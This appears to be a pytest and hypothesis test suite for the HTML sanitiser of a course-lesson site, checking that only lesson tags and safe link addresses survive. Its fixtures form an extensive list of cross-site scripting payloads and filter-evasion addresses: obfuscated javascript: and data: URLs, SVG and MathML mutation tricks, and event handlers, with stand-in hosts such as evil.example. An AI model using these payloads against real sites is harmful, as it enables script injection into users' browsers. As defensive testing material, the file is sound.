"""The sanitiser: whatever an author or an import brings, only a lesson's tags and safe addresses are left."""

import re
from collections.abc import Callable
from html import escape
from typing import Any
from urllib.parse import urljoin, urlsplit

import pytest
from bs4 import BeautifulSoup
from hypothesis import example, given
from hypothesis import strategies as st

from content.blocks import BodyBlock
from content.sanitiser import ATTRIBUTES, TAGS, is_safe_address, sanitise
from courses.pages.models import LessonPage, TaskPage
from courses.pages.source import read_pages
from tests.content.filling import rich_texts

pytestmark = pytest.mark.alike

SITE = "https://pathway.example/courses/a/b/"
# What a browser takes out of an address before it reads it.
IGNORED = re.compile(r"[\t\n\r]|^[\x00-\x20]+|[\x00-\x20]+$")


def check_harmless(html: str) -> None:
    """Only tags, attributes and addresses that a lesson uses, however the text is read."""
    for text in (html, f"<p>{html}</p>", f"{html}<p>"):
        for tag in BeautifulSoup(text, "html.parser")(True):
            assert tag.name in TAGS, html
            assert set(tag.attrs) <= ATTRIBUTES.get(tag.name, set()), html
            if "href" in tag.attrs:
                check_address(str(tag["href"]))
            if tag.name == "a":
                assert re.fullmatch(r"page|document|", str(tag.get("linktype", ""))), html
                assert re.fullmatch(r"\d*", str(tag.get("id", ""))), html
    assert "<!--" not in html
    assert "\0" not in html


def check_address(address: str) -> None:
    """A browser that follows it stays on this site, or goes to an https address, or opens an email."""
    seen = IGNORED.sub("", address).replace("\\", "/")
    target = urlsplit(urljoin(SITE, seen))
    assert target.scheme in {"https", "mailto"}, address
    if not seen.lower().startswith(("https:", "mailto:")):
        assert target.netloc == "pathway.example", address
        assert seen.startswith(("/", "#")), address


HOSTILE = {
    "a script": "<script>alert(1)</script>",
    "a script in capitals": "<ScRiPt SRC=//evil.example/x.js></sCrIpT>",
    "a script in a script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "an unclosed script": "<script>alert(1)",
    "a script with a slash": "<script/x>alert(1)</script/x>",
    "an event": '<p onclick="alert(1)">x</p>',
    "an event without quotes": "<p onmouseover=alert(1)//>x",
    "an event after a slash": "<b/onclick=alert(1)>x</b>",
    "an event after a form feed": "<b\x0conclick=alert(1)>x</b>",
    "an event on a picture": "<img src=x onerror=alert(1)>",
    "a picture with quotes": '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
    "a set of pictures": '<img srcset="https://evil.example/x 1x, javascript:alert(1) 2x">',
    "a picture that tells": '<img src="https://evil.example/count">',
    "a source": '<picture><source srcset="//evil.example/x"></picture>',
    "a video": '<video poster="javascript:alert(1)" src=x onerror=alert(1)></video>',
    "svg": "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'><text y=9>x</text></a></svg>",
    "a script in svg": "<svg><script>alert(1)</script></svg>",
    "an animated address": "<svg><a><animate attributeName=href values=javascript:alert(1) /></a></svg>",
    "svg that leaves itself": "<svg><p><style><g title='</style><img src onerror=alert(1)>'>",
    "math": "<math><maction actiontype='statusline#http://x' xlink:href='javascript:alert(1)'>x</maction></math>",
    "math that leaves itself": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 "
    "onerror=alert(1)&gt;'>",
    "a form in math": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "a style": "<style>@import url(//evil.example/x.css); p{background:url(javascript:alert(1))}</style>",
    "a style attribute": '<p style="background:url(javascript:alert(1));position:fixed;inset:0">x</p>',
    "a style sheet": '<link rel="stylesheet" href="//evil.example/x.css">',
    "a frame": '<iframe src="javascript:alert(1)"></iframe><iframe srcdoc="<script>alert(1)</script>">',
    "frames": "<frameset><frame src=javascript:alert(1)></frameset>",
    "a form": '<form action="//evil.example"><input name=password><button formaction=javascript:alert(1)>x</form>',
    "a button of another form": '<input form="f" formaction="javascript:alert(1)" autofocus onfocus=alert(1)>',
    "an object": '<object data="javascript:alert(1)"></object><embed src="//evil.example"><applet code=x>',
    "a meta": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "a base": '<base href="//evil.example/">',
    "a body": "<body onload=alert(1) background=javascript:alert(1)>x</body>",
    "a template": "<template><script>alert(1)</script></template>",
    "a noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "a title": "<title><img src=x onerror=alert(1)></title>",
    "a textarea": "<textarea></textarea><img src=x onerror=alert(1)>",
    "text without end": "<plaintext><img src=x onerror=alert(1)>",
    "an xmp": "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "a comment": "<!--><img src=x onerror=alert(1)>--><p>x</p><!-- a --!><script>alert(1)</script>",
    "a condition": "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "an instruction": "<?xml version='1.0'?><?php echo 1 ?><p>x</p>",
    "a document type": "<!DOCTYPE html [<!ENTITY x '<script>'>]><p>&x;</p>",
    "a tag with a null": "<scr\0ipt>alert(1)</scr\0ipt><b o\0nclick=alert(1)>x</b>",
    "a full-width tag": "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "broken nesting": "<p><b><i><a href='https://a.example'><p></b></a><script></i></p>x</script><ul><b><li>y",
    "a link in a link": "<a href='https://a.example'><a href='javascript:alert(1)'>x</a></a>",
    "an unfinished tag": "<p>x</p><a href='javascript:alert(1)",
    "an unfinished quote": '<a href="https://a.example onclick=alert(1)>x</a><b title="">y</b>',
    "two addresses": '<a href="javascript:alert(1)" href="https://a.example">x</a>',
    "a target": '<a href="https://a.example" target="_blank" rel="opener" download ping="//evil.example">x</a>',
    "data attributes": '<p data-hx-get="/x" hx-get="/x" hx-on:click="alert(1)" data-module="x" class="x">x</p>',
    "headings that hide what is ours": '<h2 id="main-content">x</h2><h3 id="csrfmiddlewaretoken" name="forms">x</h3>',
    "a name that hides another": '<p id="csrf" name="cookie">x</p><a name="body" id="location">x</a>',
    "a custom element": '<x-y onclick=alert(1)>x</x-y><embed embedtype="media" url="//evil.example">',
    "a slot": '<slot onslotchange=alert(1)><marquee onstart=alert(1)>x</marquee><details open ontoggle=alert(1)>',
    "an entity": "&lt;script&gt;alert(1)&lt;/script&gt;<p title=&quot;x&quot; onclick&#61;alert(1)>x",
}  # fmt: skip

# Ways to disguise what an address does.
ADDRESSES = [
    "javascript:alert(1)", "JavaScript:alert(1)", "jAvAsCrIpT:alert(1)", " javascript:alert(1)",
    "\tjavascript:alert(1)",
    "\x01javascript:alert(1)", "\x1fjavascript:alert(1)", "\0javascript:alert(1)", "java\tscript:alert(1)",
    "java\nscript:alert(1)", "java\r\nscript:alert(1)", "java\0script:alert(1)", "javascript\t:alert(1)",
    "javascript :alert(1)", "&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)", "&#0000106avascript:alert(1)",
    "java&#x09;script:alert(1)", "java&#10;script:alert(1)", "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "javascript&colon;alert(1)", "javascript&#58;alert(1)", "&#14;javascript:alert(1)", "&nbsp;javascript:alert(1)",
    "javascript:https://a.example", "javascript://a.example/%0aalert(1)", "javascript:/*https:*/alert(1)",
    "\u2028javascript:alert(1)",
    "\ufeffjavascript:alert(1)", "java\u00adscript:alert(1)", "javascript\uff1aalert(1)", "%6aavascript:alert(1)",
    "javascript%3aalert(1)", "vbscript:msgbox(1)", "VBSCRIPT:x", "livescript:x", "mocha:x",
    "data:text/html,<script>x</script>",
    "DATA:text/html;base64,PHNjcmlwdD4=", "data&colon;text/html,x", "blob:https://a.example/x",
    "filesystem:https://a.example/x",
    "file:///etc/passwd", "ftp://a.example", "http://a.example", "HTTP://a.example", "tel:123", "sms:123",
    "ws://a.example",
    "view-source:https://a.example", "about:blank", "ms-settings:x", "intent://x", "jar:https://a.example!/x",
    "feed:javascript:x",
    "//evil.example", "//evil.example/x", "///evil.example", "////evil.example", " //evil.example",
    "\t//evil.example",
    "/\t/evil.example", "/\n/evil.example", "/&Tab;/evil.example", "/\\evil.example", "\\\\evil.example",
    "\\/evil.example",
    "/\\/evil.example", "https:\\\\evil.example", "/a\\..\\\\evil.example", "&#47;&#47;evil.example",
    "&sol;&sol;evil.example",
    "&#92;&#92;evil.example", "evil.example", "page.html", "../up", "./here", "?query", "", " ", "#a b",
    "https://a b.example",
    "https://[", "http:/a.example", ":https://a.example", "https\t://a.example", "ht\ntps://a.example", "https :x",
    "/\x7f/evil\t.example",
]  # fmt: skip
# Those of them that nothing is wrong with, since they are our own site's, however odd.
SAFE = [
    "/\x7f/evil.example",
    "/a%5cb",
    "/..//evil.example",
    "https:evil.example",
    "https:///evil.example",
    "#javascript:",
]


@pytest.mark.parametrize("what", HOSTILE)
def test_hostile_html_comes_out_harmless_and_stays_so(what: str):
    found = sanitise(HOSTILE[what])
    check_harmless(found)
    assert sanitise(found) == found
    assert "javascript" not in re.sub(r">[^<]*<", "><", f">{found}<").lower()


@pytest.mark.parametrize("quote", ['"', "'", ""])
def test_no_disguise_brings_a_bad_address_through(quote: str):
    for address in ADDRESSES:
        for tag in (f"<a href={quote}{address}{quote}>x</a>", f"<A\nHREF = {quote}{address}{quote} >x</A>"):
            found = sanitise(tag)
            check_harmless(found)
            links = [str(link["href"]) for link in BeautifulSoup(found, "html.parser")("a", href=True)]
            if quote:
                assert links == [], (address, found)
            else:  # it ends at the first space: what is left of it may be good
                assert not [link for link in links if re.search("script|data|^(?!https:).*:", link)], (
                    address,
                    found,
                )


@pytest.mark.parametrize("address", ADDRESSES)
def test_the_address_itself_is_refused_however_it_was_written(address: str):
    from html import unescape

    assert not is_safe_address(unescape(address))


@pytest.mark.parametrize("address", SAFE)
def test_an_odd_address_that_stays_here_or_goes_to_https_is_left(address: str):
    assert is_safe_address(address)
    check_address(address)


GOOD = [
    "https://www.gov.uk/x?a=1#b", "HTTPS://WWW.GOV.UK", "mailto:ann@people.example",
    "mailto:a@b.example?subject=Hello", "/",
    "/courses/a/", "/portfolio/criteria/1.2.a/?x=%20y", "#part-2", "#", "https://x.example/a:b", "/a?next=//x",
    "https://é.example",
]  # fmt: skip


@pytest.mark.parametrize("address", GOOD)
def test_a_good_address_is_kept_as_it_is(address: str):
    assert is_safe_address(address)
    html = f'<p><a href="{escape(address)}">Read</a></p>'
    assert sanitise(html) == html


HARMLESS = [
    "", "Plain words.", "<p>One.</p><p>Two.</p>", "<p>A <b>bold</b> and <i>quiet</i> word</p>",
    "<p>Strong <strong>and</strong> <em>stressed</em></p>",
    "<ul><li>one</li><li>two<ul><li>in it</li></ul></li></ul>",
    "<ol><li><p>first</p></li></ol>", "<h2>Part 1</h2><h3>Deeper</h3><h4>Deepest</h4>",
    "<p>a<br>b</p><hr><p>c</p>",
    '<p><a linktype="page" id="31">A lesson</a> and <a linktype="document" id="4">a form</a></p>',
    "<p>Jo’s “own” words – 50% of £3, naïve café, 你好, 🙂</p>", "<p>3 &lt; 4 &amp; 5 &gt; 2</p>",
    '<p>She said "no" and it\'s fine</p>', "<p>a&nbsp;b</p>", "<p>two\n  lines\tand a tab</p>\n\n<p>after a gap</p>",
    "<p>&lt;script&gt;alert(1)&lt;/script&gt; is shown as text</p>", "<p>javascript: and onclick= are words here</p>",
]  # fmt: skip


@pytest.mark.parametrize("html", HARMLESS)
def test_harmless_html_is_kept_byte_for_byte(html: str):
    assert sanitise(html) == html


def test_the_shipped_lessons_go_through_unchanged():
    found = [text for page in read_pages().values() for text in rich_texts(BodyBlock(), page.body)]
    assert len(found) > 60
    for text in found:
        assert sanitise(text) == text
        check_harmless(text)


@pytest.mark.django_db
def test_what_stands_in_the_database_is_what_the_sanitiser_lets_through():
    pages = [*LessonPage.objects.all(), *TaskPage.objects.all()]
    found = [text for page in pages for text in rich_texts(BodyBlock(), list(page.body.raw_data))]
    assert len(found) > 60
    assert [text for text in found if sanitise(text) != text] == []


# Anything at all

NAMES = st.sampled_from(
    [
        *sorted(TAGS), "script", "style", "svg", "math", "img", "iframe", "form", "table", "template",
        "noscript", "title", "textarea", "select", "xmp", "mtext", "mglyph", "foreignObject", "object",
        "body", "P", "A", "annotation-xml", "desc", "plaintext", "td", "option", "base", "meta", "input"
    ]
)  # fmt: skip
ATTRIBUTE_NAMES = st.sampled_from(
    [
        "href",
        "HREF",
        "id",
        "linktype",
        "onclick",
        "style",
        "src",
        "srcset",
        "title",
        "lang",
        "class",
        "name",
        "target",
        "xlink:href",
        "formaction",
        "action",
        "data-x",
        "encoding",
    ]
)
PIECES = [
    "javascript:", "JAVASCRIPT:", "data:", "vbscript:", "https://", "//", "/", "\\", "#", "mailto:", "alert(1)",
    "&Tab;", "&#58;", "&colon;", "x", "évil", ":", "1",
    "\t", "\n", "\0", " ", "\u2028", "page", "<", ">", '"', "'", "]]>", "-->",
]  # fmt: skip
ADDRESS = st.lists(st.sampled_from(PIECES), max_size=6).map("".join)


@st.composite
def tag(draw: Callable[..., Any]) -> str:
    """An opening tag of any kind, with attributes of any kind, quoted in any way."""
    words = [draw(NAMES)]
    for _ in range(draw(st.integers(0, 3))):
        quote = draw(st.sampled_from(['"', "'", ""]))
        words.append(f"{draw(ATTRIBUTE_NAMES)}={quote}{draw(ADDRESS)}{quote}")
    return f"<{draw(st.sampled_from([' ', '/', chr(10)])).join(words)}{draw(st.sampled_from(['>', '/>', '']))}"


MARKUP = st.lists(
    st.one_of(
        tag(),
        NAMES.map(lambda name: f"</{name}>"),
        st.sampled_from(
            ["<!--", "-->", "<![CDATA[", "]]>", "&lt;", "&amp;", "&#0;", "<", ">", "&", "<?", "</", "\r", "words"]
        ),
        st.text(max_size=6),
    ),
    max_size=12,
).map("".join)


@given(html=st.one_of(st.text(), MARKUP))
@example(html="\ud7ff<a href=#>")
def test_anything_comes_out_harmless_and_a_second_time_changes_nothing(html: str):
    found = sanitise(html)
    check_harmless(found)
    assert sanitise(found) == found


@given(address=st.one_of(ADDRESS, st.text(max_size=20)))
def test_an_address_that_is_let_through_is_safe_for_a_browser(address: str):
    if is_safe_address(address):
        check_address(address)


@given(words=st.lists(st.text(st.characters(codec="utf-8", categories=["L", "N", "P", "S"]), min_size=1), max_size=8))
def test_words_are_never_lost(words: list[str]):
    text = " ".join(words)
    found = sanitise(f"<section onclick=x><p>{escape(text)}</p></section>")
    assert BeautifulSoup(found, "html.parser").get_text() == text


SAFE_TEXT = st.text(
    st.characters(codec="utf-8", exclude_characters="<>&\0\r\xa0", exclude_categories=["Cs", "Cc"]), max_size=10
)
INLINE = st.recursive(
    SAFE_TEXT,
    lambda inner: st.one_of(
        st.tuples(st.sampled_from(["b", "strong", "i", "em"]), inner).map(lambda t: f"<{t[0]}>{t[1]}</{t[0]}>"),
        st.tuples(inner, inner).map("".join),
    ),
    max_leaves=6,
)


@given(paragraphs=st.lists(st.tuples(st.sampled_from(["p", "h2", "h3", "h4"]), INLINE), max_size=5))
def test_what_the_editor_makes_is_kept_byte_for_byte(paragraphs: list[tuple[str, str]]):
    html = "".join(f"<{name}>{inner}</{name}>" for name, inner in paragraphs)
    assert sanitise(html) == html
